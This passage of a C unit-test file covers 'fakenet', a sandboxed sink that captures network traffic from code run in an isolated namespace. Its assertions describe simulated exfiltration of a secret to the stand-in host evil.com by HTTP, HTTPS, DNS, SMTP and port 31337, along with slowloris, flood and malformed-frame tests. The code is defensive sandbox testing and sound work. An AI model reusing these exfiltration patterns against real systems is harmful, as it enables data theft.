		size_t flen = fakenet_frame_len(r->frames + off, r->len - off);

		assert_true(flen >= FAKENET_HEADER && flen <= r->len - off);
		r->caps = realloc(r->caps, (r->ncaps + 1) * sizeof *r->caps);
		assert_non_null(r->caps);
		assert_int_equal(fakenet_decode(r->frames + off, flen,
		    &r->caps[r->ncaps]), 0);
		r->ncaps++;
		off += flen;
	}
}

static void
run_free(struct run *r)
{
	free(r->frames);
	free(r->caps);
}

static bool
str_is(const struct fakenet_str *s, const char *text)
{
	return s->n == strlen(text) && memcmp(s->p, text, s->n) == 0;
}

static bool
url_is(const struct fakenet_capture *c, const char *want)
{
	char url[256];

	fakenet_url(c, url, sizeof url);
	if (strcmp(url, want) == 0)
		return true;
	print_message("  url '%s', wanted '%s'\n", url, want);
	return false;
}

/* The first capture of kind at port (0: any) whose addr is addr (NULL: any). */
static const struct fakenet_capture *
find_cap(const struct run *r, enum fakenet_kind kind, const char *addr,
    uint16_t port)
{
	size_t i;

	for (i = 0; i < r->ncaps; i++) {
		const struct fakenet_capture *c = &r->caps[i];

		if (c->kind == kind && (!port || c->port == port) &&
		    (!addr || strcmp(c->addr, addr) == 0))
			return c;
	}
	return NULL;
}

static void
dump(const struct run *r)
{
	size_t i;

	for (i = 0; i < r->ncaps && i < 40; i++) {
		const struct fakenet_capture *c = &r->caps[i];
		char flags[128] = "";
		unsigned bit;

		for (bit = 1; bit <= FAKENET_FLAG_MASK; bit <<= 1)
			if (c->flags & bit)
				snprintf(flags + strlen(flags),
				    sizeof flags - strlen(flags), " %s",
				    fakenet_flag_name(bit));
		print_message("    %-4s %s:%u [%s ] bytes %llu name '%.*s' "
		    "sni '%.*s' %.*s %.*s body '%.*s'\n",
		    fakenet_kind_name(c->kind), c->addr, c->port, flags,
		    (unsigned long long)c->bytes, (int)c->name.n, c->name.p,
		    (int)c->sni.n, c->sni.p, (int)c->method.n, c->method.p,
		    (int)c->path.n, c->path.p, (int)c->body.n, c->body.p);
	}
}

/* ------------------------------------------------------------------ */
/* tests                                                               */
/* ------------------------------------------------------------------ */

/* The essay's exfiltration, a DNS question, a refused port, a datagram,
 * a ClientHello: each is one capture with what a report needs. */
static void
test_captures(void **state)
{
	const struct fakenet_capture *c;
	struct run r;
	size_t i;

	(void)state;
	run_world(play_basics, NULL, 0, false, &r);
	dump(&r);

	c = find_cap(&r, FAKENET_TCP, FAKENET_ANSWER, 80);
	assert_non_null(c);
	assert_true(c->flags & FAKENET_HTTP);
	assert_false(c->flags & (FAKENET_TRUNCATED | FAKENET_TIMEOUT));
	assert_true(str_is(&c->method, "POST"));
	assert_true(str_is(&c->path, "/x"));
	assert_true(str_is(&c->host, "evil.com"));
	assert_true(str_is(&c->body, SECRET));
	assert_true(str_is(&c->name, "evil.com"));
	assert_int_equal(c->bytes, c->data.n);
	assert_true(c->data.n > strlen(SECRET));
	assert_true(url_is(c, "http://evil.com/x"));

	c = find_cap(&r, FAKENET_DNS, "127.0.0.1", 53);
	assert_non_null(c);
	assert_true(str_is(&c->name, "evil.com"));
	assert_int_equal(c->aux, 1);			/* A */
	assert_true(url_is(c, "dns://evil.com"));
	c = find_cap(&r, FAKENET_DNS, "8.8.8.8", 53);
	assert_non_null(c);
	assert_true(str_is(&c->name, "other.example"));

	c = find_cap(&r, FAKENET_SYN, FAKENET_ANSWER, 31337);
	assert_non_null(c);
	assert_true(str_is(&c->name, "evil.com"));
	assert_true(url_is(c, "tcp://evil.com:31337"));

	c = find_cap(&r, FAKENET_SYN, "127.0.0.1", 53);	/* DNS over TCP */
	assert_non_null(c);
	for (i = 0, c = NULL; i < r.ncaps && !c; i++)
		if (r.caps[i].kind == FAKENET_DNS &&
		    str_is(&r.caps[i].name, "tcp.evil.com"))
			c = &r.caps[i];
	assert_non_null(c);
	assert_int_equal(c->port, 53);
	assert_int_equal(c->aux, 1);

	c = find_cap(&r, FAKENET_UDP, "9.9.9.9", 9999);
	assert_non_null(c);
	assert_true(str_is(&c->data, "ping-9999"));
	assert_int_equal(c->name.n, 0);		/* not the answer address */
	assert_true(url_is(c, "udp://9.9.9.9:9999"));

	/* IPv6 literals, on a kernel with IPv6 (the world's ::/0 route went
	 * in exactly when the host has /proc/net/if_inet6). */
	if (access("/proc/net/if_inet6", F_OK) == 0) {
		c = find_cap(&r, FAKENET_TCP, "2001:db8::9", 80);
		assert_non_null(c);
		assert_true(str_is(&c->path, "/six"));
		c = find_cap(&r, FAKENET_UDP, "2001:db8::7", 7777);
		assert_non_null(c);
		assert_true(str_is(&c->data, "six"));
		assert_true(url_is(c, "udp://[2001:db8::7]:7777"));
	} else {
		print_message("  no IPv6 in this kernel: IPv4 only\n");
	}

	/* The hand-made ClientHello offers nothing OpenSSL accepts: the
	 * server name and the byte count, no plaintext. */
	c = find_cap(&r, FAKENET_TCP, FAKENET_ANSWER, 443);
	assert_non_null(c);
	assert_true(c->flags & FAKENET_TLS);
	assert_true(c->flags & FAKENET_TLS_FAILED);
	assert_true(str_is(&c->sni, "evil.com"));
	assert_true(c->bytes > 60);
	assert_int_equal(c->data.n, 0);
	assert_true(url_is(c, "https://evil.com"));

	/* fakenet_up's own probe is no capture. */
	for (i = 0; i < r.ncaps; i++)
		assert_false(str_is(&r.caps[i].name, "fakenet.invalid"));
	run_free(&r);
}

/* The replica /etc of fakenet.h, and getaddrinfo() goes to dnsmasq. */
static void
test_resolver(void **state)
{
	const struct fakenet_capture *c;
	struct run r;

	(void)state;
	run_world(play_resolver, NULL, CLONE_NEWNS, true, &r);
	dump(&r);
	c = find_cap(&r, FAKENET_DNS, "127.0.0.1", 53);
	assert_non_null(c);
	assert_true(str_is(&c->name, "evil.com"));
	c = find_cap(&r, FAKENET_TCP, FAKENET_ANSWER, 8080);
	assert_non_null(c);
	assert_true(str_is(&c->method, "GET"));
	assert_true(str_is(&c->path, "/steal?" SECRET));
	assert_true(str_is(&c->name, "evil.com"));
	assert_true(url_is(c, "http://evil.com:8080/steal?" SECRET));
	run_free(&r);
}

static void
test_https(void **state)
{
	const struct fakenet_capture *c;
	struct run r;
	size_t i;
	bool ip_seen = false, pinned_seen = false;

	struct fakenet_config cfg = { 0 };
	char why[256];

	(void)state;
	/* One CA made here, before the fork, as a zygote would. */
	shared_ca = fakenet_ca_new(why, sizeof why);
	assert_non_null(shared_ca);
	cfg.ca = shared_ca;
	run_world(play_https, &cfg, CLONE_NEWNS, true, &r);
	fakenet_ca_free(shared_ca);
	shared_ca = NULL;
	dump(&r);
	c = find_cap(&r, FAKENET_TCP, FAKENET_ANSWER, 443);
	assert_non_null(c);
	assert_true(c->flags & FAKENET_TLS);
	assert_true(c->flags & FAKENET_HTTP);
	assert_false(c->flags & FAKENET_TLS_FAILED);
	assert_true(str_is(&c->sni, "evil.com"));
	assert_true(str_is(&c->method, "POST"));
	assert_true(str_is(&c->path, "/collect"));
	assert_true(str_is(&c->body, SECRET));
	assert_true(c->bytes > c->data.n);	/* raw bytes: more than plain */
	assert_true(url_is(c, "https://evil.com/collect"));
	for (i = 0; i < r.ncaps; i++) {
		c = &r.caps[i];
		if (c->kind != FAKENET_TCP || c->port != 443)
			continue;
		if (str_is(&c->path, "/ip") && c->sni.n == 0)
			ip_seen = true;
		if (str_is(&c->sni, "pinned.example") &&
		    (c->flags & FAKENET_TLS_FAILED) && c->data.n == 0)
			pinned_seen = true;
	}
	assert_true(ip_seen);
	assert_true(pinned_seen);
	run_free(&r);
}

static void
test_smtp(void **state)
{
	const struct fakenet_capture *c;
	struct run r;

	(void)state;
	run_world(play_smtp, NULL, 0, true, &r);
	dump(&r);
	c = find_cap(&r, FAKENET_TCP, FAKENET_ANSWER, 25);
	assert_non_null(c);
	assert_true(c->flags & FAKENET_SMTP);
	assert_int_equal(c->name.n, 0);		/* nothing was looked up */
	assert_true(url_is(c, "smtp://203.0.113.9"));
	assert_non_null(memmem(c->body.p, c->body.n, SECRET, strlen(SECRET)));
	assert_non_null(memmem(c->data.p, c->data.n, "RCPT TO:<x@evil.com>",
	    20));
	run_free(&r);
}

/* A giant header, a slowloris, bad TLS and DNS, 200 connections at once:
 * bounded captures, nothing hangs, the sink still serves afterwards. */
static void
test_hostile(void **state)
{
	struct fakenet_config cfg = { .idle_ms = 400, .life_ms = 1500 };
	const struct fakenet_capture *c;
	bool seen[PARALLEL] = { false };
	struct run r;
	size_t i, nseen = 0, flooded = 0;
	uint64_t dropped = 0;

	(void)state;
	run_world(play_hostile, &cfg, 0, true, &r);
	c = find_cap(&r, FAKENET_TCP, FAKENET_ANSWER, 80);
	assert_non_null(c);
	assert_true(c->flags & FAKENET_TRUNCATED);
	assert_int_equal(c->data.n, 16384);
	assert_true(c->bytes >= 16384);
	c = find_cap(&r, FAKENET_TCP, FAKENET_ANSWER, 8000);
	assert_non_null(c);
	assert_true(c->flags & FAKENET_TIMEOUT);
	c = find_cap(&r, FAKENET_TCP, FAKENET_ANSWER, 443);
	assert_non_null(c);
	assert_int_equal(c->sni.n, 0);
	for (i = 0; i < r.ncaps; i++) {
		unsigned k;

		c = &r.caps[i];
		if (c->kind != FAKENET_TCP || c->port != 4444)
			continue;
		assert_int_equal(c->data.n, 8);
		assert_int_equal(sscanf(c->data.p, "conn-%3u", &k), 1);
		assert_true(k < PARALLEL);
		if (!seen[k])
			nseen++;
		seen[k] = true;
	}
	assert_int_equal(nseen, PARALLEL);
	/* Every junk connection is one capture (and the sink lived on:
	 * run_world checked the requests after them were answered). */
	nseen = 0;
	for (i = 0; i < r.ncaps; i++) {
		c = &r.caps[i];
		if (c->kind == FAKENET_TCP && c->port != 4444 &&
		    !(c->flags & FAKENET_OPEN))
			nseen++;
	}
	assert_true(nseen >= JUNK);

	/* The flood: every datagram is a capture or a counted drop. */
	for (i = 0; i < r.ncaps; i++) {
		c = &r.caps[i];
		if (c->kind == FAKENET_UDP && c->port == 5555)
			flooded++;
		if (c->kind == FAKENET_SYNC && (c->flags & FAKENET_DROPPED))
			dropped += c->bytes;
	}
	print_message("  flood of %d: %zu captured, %llu dropped\n", FLOOD,
	    flooded, (unsigned long long)dropped);
	assert_true(dropped > 0);
	assert_int_equal(flooded + dropped, FLOOD);
	run_free(&r);
}

/* keep_bytes past the cap: the capture keeps FAKENET_KEEP_MAX, and its
 * frame still decodes (its length fields are 16 bits). */
static void
test_keep_cap(void **state)
{
	struct fakenet_config cfg = { .keep_bytes = 1 << 20,
	    .body_bytes = 1 << 20 };
	const struct fakenet_capture *c;
	struct run r;

	(void)state;
	run_world(play_big, &cfg, 0, true, &r);
	c = find_cap(&r, FAKENET_TCP, FAKENET_ANSWER, 80);
	assert_non_null(c);
	assert_true(c->flags & FAKENET_TRUNCATED);
	assert_int_equal(c->data.n, FAKENET_KEEP_MAX);
	assert_true(c->body.n > 60000);
	assert_true(c->bytes > 100000);	/* all of it, counted */
	run_free(&r);
}

static int
setup_host_listeners(void **state)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	socklen_t al = sizeof a;

	(void)state;
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	host_tcp = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	host_udp = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (host_tcp < 0 || host_udp < 0 ||
	    bind(host_tcp, (struct sockaddr *)&a, sizeof a) == -1 ||
	    listen(host_tcp, 8) == -1 ||
	    getsockname(host_tcp, (struct sockaddr *)&a, &al) == -1)
		return -1;
	host_tcp_port = ntohs(a.sin_port);
	a.sin_port = 0;
	al = sizeof a;
	if (bind(host_udp, (struct sockaddr *)&a, sizeof a) == -1 ||
	    getsockname(host_udp, (struct sockaddr *)&a, &al) == -1)
		return -1;
	host_udp_port = ntohs(a.sin_port);
	return 0;
}

static int
teardown_host_listeners(void **state)
{
	(void)state;
	close(host_tcp);
	close(host_udp);
	host_tcp = host_udp = -1;
	return 0;
}

/* Nothing leaves: the host's own loopback listeners hear nothing, while
 * the world's attempts at their addresses are captured inside. */
static void
test_nothing_leaves(void **state)
{
	const struct fakenet_capture *c;
	char buf[64], text[32];
	struct run r;

	(void)state;
	run_world(play_leak, NULL, 0, true, &r);
	dump(&r);
	c = find_cap(&r, FAKENET_SYN, "127.0.0.1", host_tcp_port);
	assert_non_null(c);
	c = find_cap(&r, FAKENET_UDP, "127.0.0.1", host_udp_port);
	assert_non_null(c);
	snprintf(text, sizeof text, "leak-%u", host_udp_port);
	assert_true(str_is(&c->data, text));
	c = find_cap(&r, FAKENET_TCP, FAKENET_ANSWER, 80);
	assert_non_null(c);
	assert_true(str_is(&c->body, SECRET));
	c = find_cap(&r, FAKENET_UDP, "1.1.1.1", 53);	/* no DNS question */
	assert_non_null(c);
	assert_true(str_is(&c->data, "not dns at all"));
	assert_int_equal(accept(host_tcp, NULL, NULL), -1);
	assert_true(errno == EAGAIN || errno == EWOULDBLOCK);
	assert_int_equal(recv(host_udp, buf, sizeof buf, 0), -1);
	assert_true(errno == EAGAIN || errno == EWOULDBLOCK);
	run_free(&r);
}

/* A dnsmasq that will not start is a refusal with its reason, and
 * nothing is left running. */
static void
play_nothing(struct fakenet *fn)
{
	(void)fn;
}

static void
test_refuses(void **state)
{
	static const struct {
		const char *dnsmasq, *why;
	} cases[] = {
		{ "/bin/false", "fakenet: dnsmasq exited (1)" },
		{ "/nonexistent/dnsmasq", "fakenet: /nonexistent/dnsmasq: " },
	};
	size_t i;

	(void)state;
	(void)play_nothing;
	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		int er[2];
		pid_t pid;
		char text[512] = "";
		ssize_t got;
		int st;

		assert_int_equal(pipe(er), 0);
		pid = fork();
		assert_true(pid >= 0);
		if (pid == 0) {
			struct fakenet_config cfg = { .dnsmasq = cases[i].dnsmasq };
			struct fakenet fn;
			char why[256];

			close(er[0]);
			err_fd = er[1];
			alarm(CHILD_LIMIT_S);
			if (enter_world(0) == -1)
				_exit(2);
			if (fakenet_up(&cfg, &fn, why, sizeof why) != -1)
				_exit(3);
			/* No child left: fakenet_down reaped them. */
			if (waitpid(-1, NULL, WNOHANG) != -1 || errno != ECHILD)
				_exit(4);
			(void)write(er[1], why, strlen(why));
			_exit(0);
		}
		close(er[1]);
		got = read(er[0], text, sizeof text - 1);
		text[got > 0 ? got : 0] = 0;
		close(er[0]);
		assert_int_equal(waitpid(pid, &st, 0), pid);
		print_message("  %s: %s\n", cases[i].dnsmasq, text);
		assert_true(WIFEXITED(st));
		assert_int_equal(WEXITSTATUS(st), 0);
		assert_int_equal(strncmp(text, cases[i].why, strlen(cases[i].why)), 0);
	}
}

static void
count_tcp(void *ctx, const struct fakenet_capture *c, const void *frame,
    size_t len)
{
	(void)frame;
	(void)len;
	if (c->kind == FAKENET_TCP)
		++*(int *)ctx;
}

/* Hostile code in the world can kill the sink (same user); the next
 * read says so instead of reporting an empty, quiet internet, after
 * the captures the sink had written. */
static void
test_sink_killed(void **state)
{
	int er[2], st;
	char text[512] = "";
	ssize_t got;
	pid_t pid;

	(void)state;
	assert_int_equal(pipe(er), 0);
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		struct fakenet fn;
		char why[256];
		int seen = 0;

		close(er[0]);
		alarm(CHILD_LIMIT_S);
		signal(SIGPIPE, SIG_DFL);	/* as in an interpreter */
		if (enter_world(0) == -1 ||
		    fakenet_up(NULL, &fn, why, sizeof why) == -1)
			_exit(2);
		/* Let it die before we sync, so the sync meets a dead
		 * reader: a SIGPIPE would end this process. */
		expect_http_ok("before", FAKENET_ANSWER, 80, "GET / HTTP/1.0\r\n\r\n");
		if (kill(fn.sink, SIGKILL) == -1)
			_exit(3);
		usleep(100 * 1000);
		/* The request before the kill is still read. */
		if (fakenet_read_captures(&fn, 5000, count_tcp, &seen, why,
		    sizeof why) != -1 || seen != 1)
			_exit(4);
		(void)write(er[1], why, strlen(why));
		fakenet_down(&fn);
		_exit(0);
	}
	close(er[1]);
	got = read(er[0], text, sizeof text - 1);
	text[got > 0 ? got : 0] = 0;
	close(er[0]);
	assert_int_equal(waitpid(pid, &st, 0), pid);
	print_message("  %s\n", text);
	assert_true(WIFEXITED(st));
	assert_int_equal(WEXITSTATUS(st), 0);
	assert_string_equal(text, "fakenet: the sink is gone");
}

/* dnsmasq and the sink keep nothing of their caller's but what a world
 * gives them: / (the caller's root: a world's, once it has pivoted) as
 * working directory, a session of their own without a terminal,
 * descriptors that are no terminal, and a seccomp filter each. */
static void
play_helpers(struct fakenet *fn)
{
	const pid_t pids[2] = { fn->dnsmasq, fn->sink };
	const char *const names[2] = { "dnsmasq", "the sink" };
	size_t i;

	for (i = 0; i < 2; i++) {
		char path[64], buf[4096], link[512], *p;
		int fd, sid = -1, tty = -1, seccomp = -1;
		ssize_t got;

		snprintf(path, sizeof path, "/proc/%d/status", (int)pids[i]);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		got = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
		if (fd >= 0)
			close(fd);
		buf[got > 0 ? got : 0] = 0;
		if ((p = strstr(buf, "\nSeccomp:")) != NULL)
			seccomp = atoi(p + 9);
		if (seccomp != 2)
			fail_child("%s: Seccomp %d, not a filter", names[i],
			    seccomp);
		snprintf(path, sizeof path, "/proc/%d/stat", (int)pids[i]);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		got = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
		if (fd >= 0)
			close(fd);
		buf[got > 0 ? got : 0] = 0;
		/* after the name: state ppid pgrp session tty_nr */
		if ((p = strrchr(buf, ')')) == NULL ||
		    sscanf(p + 1, " %*c %*d %*d %d %d", &sid, &tty) != 2)
			fail_child("%s: %s unreadable", names[i], path);
		if (sid != (int)pids[i] || sid == (int)getsid(0) || tty != 0)
			fail_child("%s: session %d (the caller's %d), "
			    "terminal %d", names[i], sid, (int)getsid(0), tty);
		/* (neither is dumpable, and their memory is the host's user
		 * namespace's: only there can their links be read, which
		 * world.test does; here they are checked where readable) */
		snprintf(path, sizeof path, "/proc/%d/cwd", (int)pids[i]);
		got = readlink(path, link, sizeof link - 1);
		link[got > 0 ? got : 0] = 0;
		if (got == -1 && errno == EACCES)
			continue;
		if (strcmp(link, "/") != 0)
			fail_child("%s: working directory %s (%s)", names[i],
			    link, got == -1 ? strerror(errno) : "read");
		for (fd = 0; fd < 1024; fd++) {
			snprintf(path, sizeof path, "/proc/%d/fd/%d",
			    (int)pids[i], fd);
			got = readlink(path, link, sizeof link - 1);
			if (got <= 0)
				continue;
			link[got] = 0;
			if (strncmp(link, "/dev/pts/", 9) == 0 ||
			    strncmp(link, "/dev/tty", 8) == 0 ||
			    strcmp(link, "/dev/ptmx") == 0)
				fail_child("%s: descriptor %d is %s", names[i],
				    fd, link);
		}
	}
}

static void
test_helpers_apart(void **state)
{
	struct run r;

	(void)state;
	run_world(play_helpers, NULL, 0, true, &r);
	run_free(&r);
}

/* Frames are hostile: every cut, every bit flip of a real frame either
 * decodes within bounds or is refused. */
static void
test_decode_hostile(void **state)
{
	struct run r;
	size_t off, flen, i;
	unsigned char *copy;
	struct fakenet_capture c;

	(void)state;
	run_world(play_leak, NULL, 0, false, &r);
	assert_true(r.ncaps > 0);
	flen = fakenet_frame_len(r.frames, r.len);
	copy = malloc(flen);
	assert_non_null(copy);
	for (off = 0; off < flen; off++)
		assert_int_equal(fakenet_decode(r.frames, off, &c), -1);
	for (i = 0; i < flen * 8; i++) {
		memcpy(copy, r.frames, flen);
		copy[i / 8] ^= (unsigned char)(1u << (i % 8));
		if (fakenet_decode(copy, flen, &c) == 0) {
			assert_true(c.name.n <= FAKENET_NAME_MAX);
			assert_true(c.data.p >= (char *)copy &&
			    c.data.p + c.data.n <= (char *)copy + flen);
		}
	}
	/* A hostile name cannot hide or break the line in a URL. */
	memset(&c, 0, sizeof c);
	c.kind = FAKENET_TCP;
	c.flags = FAKENET_HTTP;
	c.port = 80;
	c.host.p = "evil.com\nX: y \\";
	c.host.n = strlen(c.host.p);
	c.path.p = "/a b";
	c.path.n = 4;
	assert_true(url_is(&c, "http://evil.com\\x0aX:\\x20y\\x20\\x5c/a\\x20b"));
	{
		char tiny[8];

		assert_int_equal(fakenet_url(&c, tiny, sizeof tiny), 41);
		assert_string_equal(tiny, "http://");
	}

	/* A length field that points past the end. */
	memcpy(copy, r.frames, flen);
	copy[FAKENET_HEADER] = 0xff;
	copy[FAKENET_HEADER + 1] = 0xff;
	assert_int_equal(fakenet_decode(copy, flen, &c), -1);
	free(copy);
	run_free(&r);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_captures),
		cmocka_unit_test(test_resolver),
		cmocka_unit_test(test_https),
		cmocka_unit_test(test_smtp),
		cmocka_unit_test(test_hostile),
		cmocka_unit_test(test_keep_cap),
		cmocka_unit_test_setup_teardown(test_nothing_leaves,
		    setup_host_listeners, teardown_host_listeners),
		cmocka_unit_test(test_refuses),
		cmocka_unit_test(test_sink_killed),
		cmocka_unit_test(test_helpers_apart),
		cmocka_unit_test(test_decode_hostile),
	};

	if (unshare(0) == -1 || access("/proc/self/ns/user", F_OK) == -1) {
		fprintf(stderr, "test_fakenet: no user namespaces; skipping\n");
		return 77;
	}
	signal(SIGPIPE, SIG_IGN);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
